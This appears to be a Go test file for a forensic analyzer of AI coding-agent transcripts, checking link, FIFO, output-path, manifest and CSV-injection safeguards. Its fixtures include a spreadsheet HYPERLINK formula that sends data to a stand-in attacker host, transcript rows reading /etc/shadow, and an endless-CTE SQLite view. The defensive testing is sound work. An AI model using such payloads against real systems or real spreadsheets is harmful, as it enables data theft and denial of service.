//go:build unix

package analyze_test

import (
	"context"
	"database/sql"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	json "github.com/go-json-experiment/json/v1"

	"github.com/doubleagent/doubleagent/analyzer/analyze"
	"github.com/doubleagent/doubleagent/analyzer/parsers"
	"github.com/doubleagent/doubleagent/bundle"
	"github.com/doubleagent/doubleagent/bundle/bundletest"
)

// outsideHome makes, outside any input, a home whose transcript would
// give rows if it were read.
func outsideHome(t *testing.T, user string) (dir, transcript string) {
	dir = t.TempDir()
	p := filepath.Join(dir, user, ".claude", "projects", "-p", sidA+".jsonl")
	os.MkdirAll(filepath.Dir(p), 0o755)
	os.WriteFile(p, claudeSession(sidA, "/home/"+user+"/p", "2026-05-01", "cat /etc/shadow", "root:x"), 0o644)
	return dir, p
}

// TestExtractedLinkOutOfTheTree: an extracted collection whose files/home
// is a link out of it (to a copy that would even hash right) gives an
// unsafe_path problem and no row: the outside file is never read.
func TestExtractedLinkOutOfTheTree(t *testing.T) {
	f := claudeFile("alice", sidA, "2026-05-01", "cat /etc/shadow", "root:x")
	p := makeBundle(t, t.TempDir(), "x.tar.zst", "hx", "id-x", []bundletest.File{f})
	ext := filepath.Join(t.TempDir(), "extracted")
	extract(t, p, ext)
	outside := t.TempDir()
	if err := os.Rename(filepath.Join(ext, "files", "home"), filepath.Join(outside, "home")); err != nil {
		t.Fatal(err)
	}
	os.Symlink(filepath.Join(outside, "home"), filepath.Join(ext, "files", "home"))
	sum, out, err := timelineErr(t, analyze.Options{Inputs: []string{ext}})
	if err != nil {
		t.Fatal(err)
	}
	if sum.Events != 0 {
		t.Fatalf("%d rows read through the link", sum.Events)
	}
	ps := problems(t, out)
	want := "unsafe_path " + f.Path + ": files/home is a link (to \"" + filepath.Join(outside, "home") + "\"): not followed: its target does not exist inside the collection's files/ (an absolute target is taken relative to files/)"
	if len(ps) != 1 || problemSet(ps)[0] != want {
		t.Fatalf("problems:\n%s\nwant %s", strings.Join(problemSet(ps), "\n"), want)
	}
}

// TestFIFONamedLikeTheCollection: a FIFO named bundle.json or
// manifest.jsonl never blocks timeline or detect.
func TestFIFONamedLikeTheCollection(t *testing.T) {
	p := makeBundle(t, t.TempDir(), "x.tar.zst", "hx", "id-x", []bundletest.File{claudeFile("alice", sidA, "2026-05-01", "id", "uid=0")})
	for _, name := range []string{bundle.HeaderName, bundle.ManifestName} {
		t.Run(name, func(t *testing.T) {
			ext := filepath.Join(t.TempDir(), "extracted")
			extract(t, p, ext)
			os.Remove(filepath.Join(ext, name))
			if err := syscall.Mkfifo(filepath.Join(ext, name), 0o644); err != nil {
				t.Fatal(err)
			}
			_, out, err := timelineErr(t, analyze.Options{Inputs: []string{ext}})
			var probs []analyze.Problem
			within(t, func() { _, probs = analyze.Detect(context.Background(), []string{ext}, parsers.All(), nil) })
			if name == bundle.HeaderName {
				want := "extracted collection whose bundle.json cannot be read: bundle.json: is a FIFO, not a regular file: not read"
				if !errors.Is(err, analyze.ErrNoInput) || !strings.Contains(err.Error(), want) {
					t.Fatalf("timeline: %v", err)
				}
				if len(probs) != 1 || probs[0].Kind != "unusable_input" || probs[0].Message != want {
					t.Fatalf("detect: %+v", probs)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			want := "unsafe_path manifest.jsonl: is a FIFO, not a regular file: not read: files cannot be verified or attributed"
			if got := problemSet(problems(t, out)); len(got) != 1 || got[0] != want {
				t.Fatalf("timeline problems %q", got)
			}
			if got := problemSet(probs); len(got) != 1 || got[0] != want {
				t.Fatalf("detect problems %q", got)
			}
		})
	}
}

// TestLooseImageWithLinkedHomes: an image whose home, mnt/c or a home is
// a link is a problem row each; nothing behind the links is read.
func TestLooseImageWithLinkedHomes(t *testing.T) {
	outside, _ := outsideHome(t, "eve")
	img := t.TempDir()
	os.Symlink(outside, filepath.Join(img, "home"))
	os.MkdirAll(filepath.Join(img, "mnt"), 0o755)
	os.Symlink(outside, filepath.Join(img, "mnt", "c"))
	os.MkdirAll(filepath.Join(img, "Users"), 0o755)
	os.Symlink(filepath.Join(outside, "eve"), filepath.Join(img, "Users", "eve"))
	sum, out, err := timelineErr(t, analyze.Options{Inputs: []string{img}})
	if err != nil {
		t.Fatal(err)
	}
	if sum.Events != 0 {
		t.Fatalf("%d rows from the examiner's own disk", sum.Events)
	}
	got := problemSet(problems(t, out))
	want := []string{
		fmt.Sprintf("unsafe_path /Users/eve: /Users/eve in the image is a link (to %q): not followed, nothing under it is read (in an image read in place a link on the way to a home is never followed; `collector --root` resolves it inside the image)", filepath.Join(outside, "eve")),
		fmt.Sprintf("unsafe_path /home: /home in the image is a link (to %q): not followed, nothing under it is read (in an image read in place a link on the way to a home is never followed; `collector --root` resolves it inside the image)", outside),
		fmt.Sprintf("unsafe_path /mnt/c: /mnt/c in the image is a link (to %q): not followed, nothing under it is read (in an image read in place a link on the way to a home is never followed; `collector --root` resolves it inside the image)", outside),
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("problems:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	// The summary names each link not followed, with its target, and does
	// not say "nothing of any agent" as if the homes had been looked in.
	lines := strings.Join(analyze.SummaryLines(sum), "\n")
	wantLines := "  not read under " + img + ": 3 path(s): links not followed, files not opened, folders not listed (problems.jsonl: unsafe_path, error_read):\n" +
		fmt.Sprintf("    /Users/eve in the image is a link (to %q): not followed, nothing under it is read (in an image read in place a link on the way to a home is never followed; `collector --root` resolves it inside the image)\n", filepath.Join(outside, "eve")) +
		fmt.Sprintf("    /home in the image is a link (to %q): not followed, nothing under it is read (in an image read in place a link on the way to a home is never followed; `collector --root` resolves it inside the image)\n", outside) +
		fmt.Sprintf("    /mnt/c in the image is a link (to %q): not followed, nothing under it is read (in an image read in place a link on the way to a home is never followed; `collector --root` resolves it inside the image)\n", outside) +
		"  nothing of any agent read under " + img + ", but the paths above were not read (the evidence path rule and the loose-tree link policy: analyzer/docs/usage.md, Safety): what lies behind them was never looked at, so this does not say no agent was there; `collector --root` resolves an image's home links inside the image\n"
	if !strings.Contains(lines, wantLines) || strings.Contains(lines, "nothing of any agent under") {
		t.Fatalf("summary:\n%s\nwant:\n%s", lines, wantLines)
	}
}

// TestLooseTreeLinkInside: a transcript that is a link out of a copied
// home (an absolute target, taken inside the tree, where nothing is) is a
// problem row naming link and target, not read.
func TestLooseTreeLinkInside(t *testing.T) {
	_, outsideFile := outsideHome(t, "mallory")
	home := filepath.Join(t.TempDir(), "bob")
	os.MkdirAll(filepath.Join(home, ".claude", "projects", "-p"), 0o755)
	link := filepath.Join(home, ".claude", "projects", "-p", sidA+".jsonl")
	os.Symlink(outsideFile, link)
	sum, out, err := timelineErr(t, analyze.Options{Inputs: []string{home}})
	if err != nil {
		t.Fatal(err)
	}
	orig := filepath.ToSlash(home) + "/.claude/projects/-p/" + sidA + ".jsonl"
	if sum.Events != 0 {
		t.Fatalf("%d rows through a link", sum.Events)
	}
	hasProblem(t, problems(t, out), fmt.Sprintf("unsafe_path %s: %s is a link (to %q): not followed: its target does not exist inside the tree (an absolute target is taken relative to the tree's root)", orig, orig, outsideFile))
}

// rawFile is a member with PAX records and its manifest row, for bundles
// the Writer would never produce.
func rawFile(user, data string) (bundletest.Raw, bundle.Entry) {
	path := "/home/" + user + "/.claude/projects/-home-" + user + "-p/" + sidA + ".jsonl"
	name := "files" + path
	pax := map[string]string{"DOUBLEAGENT.path": path, "DOUBLEAGENT.agent": "claude-code", "DOUBLEAGENT.target": "projects",
		"DOUBLEAGENT.kind": "transcript", "DOUBLEAGENT.user": user, "DOUBLEAGENT.home": "/home/" + user}
	e := bundle.Entry{Record: "file", Path: path, ArchivePath: name, User: user, Home: "/home/" + user, Agent: "claude-code", Target: "projects",
		Kind: "transcript", Type: "file", Size: int64(len(data)), SHA256: sha(data), MTime: "1970-01-01T00:00:00Z", Status: "collected"}
	return bundletest.Raw{Name: name, Data: []byte(data), PAX: pax}, e
}

// TestManifestWinsOverPAX: alice's transcript whose PAX records say bob's
// is alice's in the timeline (the manifest wins), its rows verified:false,
// with a pax_mismatch problem.
func TestManifestWinsOverPAX(t *testing.T) {
	data := string(claudeSession(sidA, "/home/alice/p", "2026-05-01", "id", "uid=1000"))
	m, e := rawFile("alice", data)
	bob, _ := rawFile("bob", data)
	m.PAX = bob.PAX
	raw := bundletest.RawBundle(t, []bundletest.Raw{m, {Name: bundle.ManifestName, Data: bundletest.ManifestLine(t, e, bundle.Summary{Record: "summary", Complete: true})}}, false)
	p := filepath.Join(t.TempDir(), "swap.tar.zst")
	os.WriteFile(p, raw, 0o644)
	sum, out, err := timelineErr(t, analyze.Options{Inputs: []string{p}})
	if err != nil {
		t.Fatal(err)
	}
	rs := rows(t, out)
	if sum.Events == 0 {
		t.Fatal("no rows")
	}
	for _, r := range rs {
		if r.User != "alice" || r.SourceFile != e.Path || r.Verified != "false" {
			t.Fatalf("row %+v", r)
		}
	}
	ps := problems(t, out)
	if len(ps) != 2 || ps[0].Kind != bundle.ProblemPAX || ps[0].SourceFile != e.Path || ps[1].Kind != analyze.KindHostname {
		t.Fatalf("problems %q", problemSet(ps))
	}
}

// TestChangedDuringCopyIsNotVerified: a file the collector saw change is
// parsed, every row verified:false, with a changed_during_copy problem.
func TestChangedDuringCopyIsNotVerified(t *testing.T) {
	data := string(claudeSession(sidA, "/home/alice/p", "2026-05-01", "id", "uid=1000"))
	m, e := rawFile("alice", data)
	e.ChangedDuringCopy = true
	raw := bundletest.RawBundle(t, []bundletest.Raw{m, {Name: bundle.ManifestName, Data: bundletest.ManifestLine(t, e, bundle.Summary{Record: "summary", Complete: true})}}, false)
	p := filepath.Join(t.TempDir(), "torn.tar.zst")
	os.WriteFile(p, raw, 0o644)
	for _, in := range []string{p, "extracted"} {
		if in == "extracted" {
			in = filepath.Join(t.TempDir(), "ext")
			extract(t, p, in)
		}
		sum, out, err := timelineErr(t, analyze.Options{Inputs: []string{in}})
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range rows(t, out) {
			if r.Verified != "false" {
				t.Fatalf("%s: row %+v", in, r)
			}
		}
		want := "changed_during_copy " + e.Path + ": changed_during_copy " + e.Path + ": the file kept changing while it was copied: its content may be torn or padded"
		unnamed := "bad_hostname bundle.json: the bundle records no host name: its rows are under the host \"unnamed:raw\", so that two machines whose bundles name no host are never taken for one"
		if got := problemSet(problems(t, out)); sum.Events == 0 || len(got) != 2 || got[0] != want || got[1] != unnamed {
			t.Fatalf("%s: %d rows, problems %q", in, sum.Events, got)
		}
	}
}

// TestSecondBundleConcatenated: timeline says the second bundle is there
// (trailing_data) rather than ignoring it.
func TestSecondBundleConcatenated(t *testing.T) {
	dir := t.TempDir()
	a := makeBundle(t, dir, "a.tar.zst", "ha", "id-a", []bundletest.File{claudeFile("alice", sidA, "2026-05-01", "id", "uid=1000")})
	b := makeBundle(t, dir, "b.tar.zst", "hb", "id-b", []bundletest.File{claudeFile("bob", "bbbb2222-0000-4000-8000-000000000002", "2026-05-02", "id", "uid=1001")})
	ab, _ := os.ReadFile(a)
	bb, _ := os.ReadFile(b)
	cat := filepath.Join(t.TempDir(), "cat.tar.zst")
	os.WriteFile(cat, append(ab, bb...), 0o644)
	_, out, err := timelineErr(t, analyze.Options{Inputs: []string{cat}})
	if err != nil {
		t.Fatal(err)
	}
	ps := problems(t, out)
	if len(ps) != 1 || ps[0].Kind != bundle.ProblemTrailing || !strings.HasSuffix(ps[0].Message, "bytes of data after the end of the archive (a second bundle appended): not read; split it off and read it on its own") {
		t.Fatalf("problems %q", problemSet(ps))
	}
}

// TestOutputsNeverThroughALink: a link (or a file) already in -o DIR
// under an output's name is refused before anything is read; with Force
// it is removed, never followed, and the outputs are created new. The
// link's target is unchanged either way.
func TestOutputsNeverThroughALink(t *testing.T) {
	p := makeBundle(t, t.TempDir(), "x.tar.zst", "hx", "id-x", []bundletest.File{claudeFile("alice", sidA, "2026-05-01", "id", "uid=0")})
	victim := filepath.Join(t.TempDir(), "victim")
	os.WriteFile(victim, []byte("precious\n"), 0o644)
	for _, name := range []string{analyze.TimelineJSONL, analyze.ProblemsJSONL, analyze.InventoryJSON, analyze.SessionsJSONL, analyze.RunJSON} {
		out := t.TempDir()
		os.Symlink(victim, filepath.Join(out, name))
		_, _, err := timelineErr(t, analyze.Options{Inputs: []string{p}, OutDir: out})
		want := analyze.ErrOutputInUse.Error() + ": " + out + " holds " + name + " (use another folder, or --force to replace that run's files)"
		if !errors.Is(err, analyze.ErrOutputInUse) || err.Error() != want {
			t.Fatalf("%s: %v", name, err)
		}
		if b, _ := os.ReadFile(victim); string(b) != "precious\n" {
			t.Fatalf("%s: victim changed: %q", name, b)
		}
		if ents, _ := os.ReadDir(out); len(ents) != 1 {
			t.Fatalf("%s: outputs written beside the link: %v", name, ents)
		}
		if _, _, err := timelineErr(t, analyze.Options{Inputs: []string{p}, OutDir: out, Force: true}); err != nil {
			t.Fatalf("%s with Force: %v", name, err)
		}
		if b, _ := os.ReadFile(victim); string(b) != "precious\n" {
			t.Fatalf("%s with Force: victim changed: %q", name, b)
		}
		if fi, err := os.Lstat(filepath.Join(out, name)); err != nil || !fi.Mode().IsRegular() {
			t.Fatalf("%s with Force: %v %v", name, fi, err)
		}
	}
	// A file planted between the folder check and the write is refused
	// too: every output is created O_EXCL|O_NOFOLLOW.
	f, err := bundle.CreateNew(victim, 0o644)
	if !errors.Is(err, bundle.ErrOutputExists) || f != nil {
		t.Fatalf("CreateNew over a file: %v", err)
	}
}

// TestCSVFormulaNeutralised: a typed prompt that is a spreadsheet formula
// is written to timeline.csv with a leading ', and unchanged to JSONL.
func TestCSVFormulaNeutralised(t *testing.T) {
	formula := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	line := `{"type":"user","sessionId":"` + sidA + `","cwd":"/home/a/p","uuid":"u1","timestamp":"2026-05-01T10:00:00.000Z","message":{"role":"user","content":` + jsonString(formula) + `}}` + "\n"
	f := bundletest.File{Path: "/home/a/.claude/projects/-p/" + sidA + ".jsonl", Agent: "claude-code", Target: "projects", User: "a", Data: []byte(line)}
	p := makeBundle(t, t.TempDir(), "f.tar.zst", "hf", "id-f", []bundletest.File{f})
	_, out, err := timelineErr(t, analyze.Options{Inputs: []string{p}, Format: "csv"})
	if err != nil {
		t.Fatal(err)
	}
	b, _ := os.ReadFile(filepath.Join(out, analyze.TimelineCSV))
	if !strings.Contains(string(b), `,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`) || strings.Contains(string(b), `,"=HYPERLINK`) {
		t.Fatalf("csv:\n%s", b)
	}
	_, out, _ = timelineErr(t, analyze.Options{Inputs: []string{p}})
	if rs := rows(t, out); len(rs) != 1 || rs[0].Text != formula {
		t.Fatalf("jsonl rows %+v", rs)
	}
	for in, want := range map[string]string{"=1+1": "'=1+1", "+1": "'+1", "-2": "'-2", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx", "plain": "plain", "": "", "a=b": "a=b"} {
		if got := analyze.CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}

func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// sqliteFile builds a SQLite store with the statements given.
func sqliteFile(t *testing.T, stmts string) []byte {
	t.Helper()
	p := filepath.Join(t.TempDir(), "s.db")
	db, err := sql.Open("sqlite", p)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec(stmts); err != nil {
		t.Fatal(err)
	}
	db.Close()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

const zedStore = "/home/z/.local/share/zed/threads/threads.db"

func zedBundle(t *testing.T, data []byte) string {
	return makeBundle(t, t.TempDir(), "z.tar.zst", "hz", "id-z", []bundletest.File{{Path: zedStore, Agent: "zed", Target: "threads", Kind: "sqlite", User: "z", Data: data}})
}

// TestSQLiteViewOverEndlessCTE: Zed's threads as a view over an endless
// recursive CTE is not read (only real tables are), and the run ends.
func TestSQLiteViewOverEndlessCTE(t *testing.T) {
	store := sqliteFile(t, `CREATE VIEW threads AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c)
		SELECT CAST(x AS TEXT) AS id, 'x' AS summary, '2026-01-01T00:00:00Z' AS updated_at, 'json' AS data_type, CAST('{}' AS BLOB) AS data FROM c`)
	_, out, err := timelineErr(t, analyze.Options{Inputs: []string{zedBundle(t, store)}})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"parse " + zedStore + ": not a Zed threads database: none of the tables threads"}
	if got := problemSet(problems(t, out)); strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("problems %q", got)
	}
}

// TestSQLiteCorruptHeader: a store with the SQLite magic but a page size
// of 0 is a problem row naming the store, not a store without tables.
func TestSQLiteCorruptHeader(t *testing.T) {
	store := append([]byte("SQLite format 3\x00\x00\x00"), make([]byte, 8192)...)
	_, out, err := timelineErr(t, analyze.Options{Inputs: []string{zedBundle(t, store)}})
	if err != nil {
		t.Fatal(err)
	}
	ps := problems(t, out)
	if len(ps) != 1 || ps[0].Kind != "parse" || ps[0].SourceFile != zedStore ||
		!strings.HasPrefix(ps[0].Message, "parse stopped: open "+zedStore+": SQLite store "+zedStore+" cannot be read: ") {
		t.Fatalf("problems %q", problemSet(ps))
	}
}

// TestSQLiteRowBudget: a store with more records than its budget is cut
// at the budget with a store_budget problem naming it; the rows read
// before are kept.
func TestSQLiteRowBudget(t *testing.T) {
	var b strings.Builder
	b.WriteString(`CREATE TABLE threads(id TEXT PRIMARY KEY, summary TEXT, updated_at TEXT, data_type TEXT, data BLOB);`)
	for i := 0; i < 50; i++ {
		fmt.Fprintf(&b, `INSERT INTO threads VALUES('t%02d','s','2026-01-01T00:00:%02dZ','json',CAST('not json' AS BLOB));`, i, i)
	}
	_, out, err := timelineErr(t, analyze.Options{Inputs: []string{zedBundle(t, sqliteFile(t, b.String()))}, StoreRows: 10})
	if err != nil {
		t.Fatal(err)
	}
	ps := problems(t, out)
	var budget []string
	for _, p := range ps {
		if p.Kind == analyze.KindStoreBudget {
			budget = append(budget, p.SourceFile+": "+p.Message)
		}
	}
	want := zedStore + ": SQLite store " + zedStore + ": parsing stopped after 10 records (--store-rows): the rows read before are kept"
	if len(budget) != 1 || budget[0] != want || len(ps) != 11 {
		t.Fatalf("problems (%d):\n%s", len(ps), strings.Join(problemSet(ps), "\n"))
	}
}

// TestEmptyBundleID: a bundle without a bundle_id is a problem row.
func TestEmptyBundleID(t *testing.T) {
	p := makeBundle(t, t.TempDir(), "n.tar.zst", "hn", "", []bundletest.File{claudeFile("alice", sidA, "2026-05-01", "id", "uid=0")})
	_, out, err := timelineErr(t, analyze.Options{Inputs: []string{p}})
	if err != nil {
		t.Fatal(err)
	}
	if got := problemSet(problems(t, out)); len(got) != 1 || got[0] != "bad_header : bad_header bundle.json: bundle_id is empty: rows from this bundle cannot be told from another's" {
		t.Fatalf("problems %q", got)
	}
}

// TestOutputInsideTheEvidence: an output folder at or under a tree read in
// place (a copied home, an image root, an extracted collection), given
// directly or through a link, is refused before anything is written, as
// the collector refuses to write inside the image it collects; a folder
// of bundles may hold it.
func TestOutputInsideTheEvidence(t *testing.T) {
	dir, _ := outsideHome(t, "alice")
	home := filepath.Join(dir, "alice")
	link := filepath.Join(t.TempDir(), "link")
	if err := os.Symlink(home, link); err != nil {
		t.Fatal(err)
	}
	ext := t.TempDir()
	os.WriteFile(filepath.Join(ext, "bundle.json"), []byte(`{"format_version":2,"bundle_id":"x"}`), 0o644)
	os.WriteFile(filepath.Join(ext, "manifest.jsonl"), nil, 0o644)
	os.MkdirAll(filepath.Join(ext, "files"), 0o755)
	for _, c := range []struct{ input, out string }{
		{home, home},
		{home, filepath.Join(home, ".claude", "out")},
		{dir, filepath.Join(home, "out")},
		{link, filepath.Join(home, "out")},
		{home, filepath.Join(link, "out")},
		{ext, filepath.Join(ext, "out")},
	} {
		before := treeOf(t, c.input)
		_, _, err := timelineErr(t, analyze.Options{Inputs: []string{c.input}, OutDir: c.out})
		if !errors.Is(err, analyze.ErrOutputInEvidence) {
			t.Errorf("-o %s on %s: %v, want ErrOutputInEvidence", c.out, c.input, err)
		}
		if after := treeOf(t, c.input); after != before {
			t.Errorf("-o %s on %s changed the input:\n%s\nwas:\n%s", c.out, c.input, after, before)
		}
	}
	bundles := t.TempDir()
	os.WriteFile(filepath.Join(bundles, "b.tar.zst"), bundletest.Build(t, []bundletest.File{{Path: "/home/bob/.claude/history.jsonl", Agent: "claude-code", Target: "history", Kind: "history", User: "bob", Data: []byte(`{"display":"hi","timestamp":1777777777000}` + "\n")}}), 0o644)
	if _, _, err := timelineErr(t, analyze.Options{Inputs: []string{bundles}, OutDir: filepath.Join(bundles, "out")}); err != nil {
		t.Errorf("-o inside a folder of bundles: %v", err)
	}
}

// treeOf lists every path under dir with its size, not following links.
func treeOf(t *testing.T, dir string) string {
	t.Helper()
	var b strings.Builder
	filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		if err == nil {
			fmt.Fprintf(&b, "%s %d\n", p, fi.Size())
		}
		return nil
	})
	return b.String()
}

// TestNestedInputs: a home of an image root, a file in it, or a folder of
// an extracted collection, given beside the tree that holds it, would be
// read twice under two host names (every row twice): refused before
// anything is read. The same input twice, and an agent folder beside its
// copied home, are read once.
func TestNestedInputs(t *testing.T) {
	img := t.TempDir()
	os.MkdirAll(filepath.Join(img, "etc"), 0o755)
	os.WriteFile(filepath.Join(img, "etc", "hostname"), []byte("web01\n"), 0o644)
	home, file := outsideHome(t, "alice")
	os.Rename(home, filepath.Join(img, "home"))
	file = filepath.Join(img, "home", "alice", strings.TrimPrefix(file, filepath.Join(home, "alice")))
	ext := t.TempDir()
	os.WriteFile(filepath.Join(ext, "bundle.json"), []byte(`{"format_version":2,"bundle_id":"x"}`), 0o644)
	os.WriteFile(filepath.Join(ext, "manifest.jsonl"), nil, 0o644)
	os.MkdirAll(filepath.Join(ext, "files", "home", "bob"), 0o755)
	for _, inputs := range [][]string{
		{img, filepath.Join(img, "home", "alice")},
		{filepath.Join(img, "home", "alice", ".claude"), img},
		{img, file},
		{ext, filepath.Join(ext, "files", "home", "bob")},
	} {
		_, _, err := timelineErr(t, analyze.Options{Inputs: inputs})
		if !errors.Is(err, analyze.ErrNestedInput) {
			t.Errorf("%v: %v, want ErrNestedInput", inputs, err)
		}
	}
	one, _, err := timelineErr(t, analyze.Options{Inputs: []string{img}})
	if err != nil || one.Events == 0 {
		t.Fatalf("image alone: %v, %+v", err, one)
	}
	for _, inputs := range [][]string{{img, img}, {filepath.Join(img, "home", "alice"), filepath.Join(img, "home", "alice", ".claude")}} {
		sum, _, err := timelineErr(t, analyze.Options{Inputs: inputs})
		if err != nil || sum.Events != one.Events {
			t.Errorf("%v: %v, %d rows, want %d", inputs, err, sum.Events, one.Events)
		}
	}
}

// TestStreamInputsThatNeverEnd: a named FIFO no one writes to, given as
// an input (directly or through a link), blocked the run for ever in the
// stream spool, deaf to SIGINT and SIGTERM; /dev/zero filled the private
// folder. A stream is spooled only when it starts with a zstd frame, and
// a FIFO with no writer is an empty stream: each is an unusable input
// and the run returns.
func TestStreamInputsThatNeverEnd(t *testing.T) {
	dir := t.TempDir()
	fifo := filepath.Join(dir, "fifo")
	if err := syscall.Mkfifo(fifo, 0o644); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(dir, "link")
	os.Symlink(fifo, link)
	for _, in := range []string{fifo, link, "/dev/zero"} {
		_, _, err := timelineErr(t, analyze.Options{Inputs: []string{in}})
		if !errors.Is(err, analyze.ErrNoInput) {
			t.Errorf("%s: %v, want ErrNoInput", in, err)
		}
	}
}

// TestUnnamedHostsStayApart: two bundles that record no host name, or the
// collector's "unknown-host" (two machines, the same transcript), are two
// hosts, "unnamed:<bundle id>",
// each with a problem row saying so: their sessions are never merged.
func TestUnnamedHostsStayApart(t *testing.T) {
	data := string(claudeSession(sidA, "/home/alice/p", "2026-05-01", "id", "uid=1000"))
	dir := t.TempDir()
	var inputs []string
	// the first records no host name, the second the collector's
	// placeholder for none (bundle.UnknownHost)
	for i, id := range []string{"01930000-0000-7000-8000-0000000000a1", "01930000-0000-7000-8000-0000000000a2"} {
		m, e := rawFile("alice", data)
		h := bundle.Header{FormatVersion: 1, BundleID: id}
		if i == 1 {
			h.Host.Hostname = bundle.UnknownHost
		}
		hdr, _ := json.Marshal(h)
		raw := bundletest.RawBundle(t, []bundletest.Raw{{Name: bundle.HeaderName, Data: hdr}, m, {Name: bundle.ManifestName, Data: bundletest.ManifestLine(t, e, bundle.Summary{Record: "summary", Complete: true})}}, true)
		p := filepath.Join(dir, id+".tar.zst")
		if err := os.WriteFile(p, raw, 0o644); err != nil {
			t.Fatal(err)
		}
		inputs = append(inputs, p)
	}
	_, out, err := timelineErr(t, analyze.Options{Inputs: inputs})
	if err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(filepath.Join(out, "sessions.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	var hosts []string
	for _, l := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		var m map[string]any
		if err := json.Unmarshal([]byte(l), &m); err != nil {
			t.Fatal(err)
		}
		hosts = append(hosts, fmt.Sprint(m["host"], " ", m["session_id"]))
	}
	if want := "unnamed:01930000-0000-7000-8000-0000000000a1 " + sidA + "|unnamed:01930000-0000-7000-8000-0000000000a2 " + sidA; strings.Join(hosts, "|") != want {
		t.Fatalf("sessions %q, want %q", hosts, want)
	}
	var unnamed int
	for _, p := range problems(t, out) {
		if p.Kind == analyze.KindHostname && strings.HasPrefix(p.Message, "the bundle records no host name: its rows are under the host \"unnamed:01930000-") {
			unnamed++
		}
	}
	if unnamed != 2 {
		t.Fatalf("%d unnamed-host problems, want 2: %q", unnamed, problemSet(problems(t, out)))
	}
}

// TestLooseUnlistableHomesFolder: an image read in place whose home
// folder the examiner's account cannot list is an error_read problem and a
// summary line naming it, never a bare "nothing of any agent". Needs an
// unprivileged user: scripts/test-unprivileged.sh runs it as nobody.
func TestLooseUnlistableHomesFolder(t *testing.T) {
	if os.Geteuid() == 0 {
		t.Skip("running as root, which lists a mode-000 folder: scripts/test-unprivileged.sh runs this as user nobody")
	}
	img := writeTree(t, map[string][]byte{"etc/hostname": []byte("img\n"), "home/alice/.claude/projects/-home-alice-p/" + looseSID + ".jsonl": session("alice")})
	if err := os.Chmod(filepath.Join(img, "home"), 0o311); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Chmod(filepath.Join(img, "home"), 0o755) })
	sum, out, err := timelineErr(t, analyze.Options{Inputs: []string{img}})
	if err != nil {
		t.Fatal(err)
	}
	msg := "/home in the image could not be listed whole (0 entries read): permission denied (this account cannot read it): the homes under it are not read"
	if got := strings.Join(problemSet(problems(t, out)), "\n"); got != "error_read /home: "+msg {
		t.Fatalf("problems:\n%s", got)
	}
	lines := strings.Join(analyze.SummaryLines(sum), "\n")
	if !strings.Contains(lines, "  not read under "+img+": 1 path(s): links not followed, files not opened, folders not listed (problems.jsonl: unsafe_path, error_read):\n    "+msg+"\n  nothing of any agent read under "+img+", but the paths above were not read") {
		t.Fatalf("summary:\n%s", lines)
	}
}

// TestLooseUnreadableFileNamed: a file of a loose home the examiner's
// account cannot open is an error_read problem, and the summary's "not
// read" line names its path (the message itself does not). Before, the
// line was a bare "not read: permission denied (this account cannot read
// it)", once per file, naming none. Needs an unprivileged user:
// scripts/test-unprivileged.sh runs it as nobody.
func TestLooseUnreadableFileNamed(t *testing.T) {
	if os.Geteuid() == 0 {
		t.Skip("running as root, which reads a mode-000 file: scripts/test-unprivileged.sh runs this as user nobody")
	}
	rel := ".claude/projects/-home-alice-p/" + looseSID + ".jsonl"
	home := filepath.Join(writeTree(t, map[string][]byte{"alice/" + rel: session("alice")}), "alice")
	if err := os.Chmod(filepath.Join(home, filepath.FromSlash(rel)), 0); err != nil {
		t.Fatal(err)
	}
	sum, out, err := timelineErr(t, analyze.Options{Inputs: []string{home}})
	if err != nil {
		t.Fatal(err)
	}
	// A copied home's files are named at their own path.
	path := filepath.ToSlash(filepath.Join(home, filepath.FromSlash(rel)))
	if got := strings.Join(problemSet(problems(t, out)), "\n"); got != "error_read "+path+": not read: permission denied (this account cannot read it)" {
		t.Fatalf("problems:\n%s", got)
	}
	lines := strings.Join(analyze.SummaryLines(sum), "\n")
	if !strings.Contains(lines, "  not read under "+home+": 1 path(s): links not followed, files not opened, folders not listed (problems.jsonl: unsafe_path, error_read):\n    "+path+": not read: permission denied (this account cannot read it)\n") {
		t.Fatalf("summary:\n%s", lines)
	}
}
